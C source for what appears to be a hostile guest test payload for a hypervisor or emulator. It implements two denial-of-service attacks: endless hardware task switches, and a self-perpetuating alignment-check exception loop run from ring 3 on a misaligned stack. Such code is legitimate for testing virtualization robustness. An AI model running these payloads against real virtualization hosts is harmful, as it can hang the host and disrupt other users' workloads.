/* Attacks that need 32-bit protected mode. The command line names what it does, for ever: task-switches, ac-loop. */
#include "legacy.h"

#define SEL_OTHER   SEL_FREE
#define GATE_USER   0xee /* interrupt gate for ring 3 */
#define AC          17
#define CR0_AM      0x40000u
#define EF_AC       "0x40000"

static struct tss32 other;
static uint8_t other_stack[4096] __attribute__((aligned(16)));

static void jump_back(void)
{
	for (;;)
		__asm__ volatile("ljmp %0, $0" :: "i"(SEL_MAIN) : "memory", "cc");
}

static void task_switches(void)
{
	other = (struct tss32){ .cr3 = get_cr3(), .eip = ADDRESS(jump_back), .eflags = 2,
				.esp = ADDRESS(other_stack + sizeof(other_stack)), .es = SEL_DATA, .cs = SEL_CODE,
				.ss = SEL_DATA, .ds = SEL_DATA, .fs = SEL_DATA, .iomap = sizeof(other) };
	set_descriptor(SEL_OTHER, ADDRESS(&other), sizeof(other) - 1, ACC_TSS, 0);
	for (;;)
		__asm__ volatile("ljmp %0, $0" :: "i"(SEL_OTHER) : "memory", "cc");
}

/* In ring 3, on a stack that is not aligned. */
static void misaligned(void)
{
	__asm__ volatile("mov %0, %%esp; pushfl; orl $" EF_AC ", (%%esp); popfl; 1: dec %%esp; push %%eax; jmp 1b"
			 :: "i"(other_stack + sizeof(other_stack)) : "memory", "cc");
}

/* #AC served there, too: pushing its frame is the next #AC. */
static void ac_loop(void)
{
	uint32_t handler = ADDRESS(misaligned);

	idt32[AC] = (handler & 0xffff) | SEL_UCODE32 << 16 | (uint64_t)GATE_USER << 40 | (uint64_t)(handler >> 16) << 48;
	put_cr0(get_cr0() | CR0_AM);
	__asm__ volatile("mov %w0, %%ds; mov %w0, %%es; push %0; push %1; pushfl; push %2; push %3; iretl"
			 :: "r"(SEL_UDATA32), "i"(other_stack + sizeof(other_stack)), "i"(SEL_UCODE32), "r"(handler) : "memory");
}

void payload_main(void)
{
	print("hostile: begins\n");
	print_flush();
	if (option("task-switches"))
		task_switches();
	if (option("ac-loop"))
		ac_loop();
}
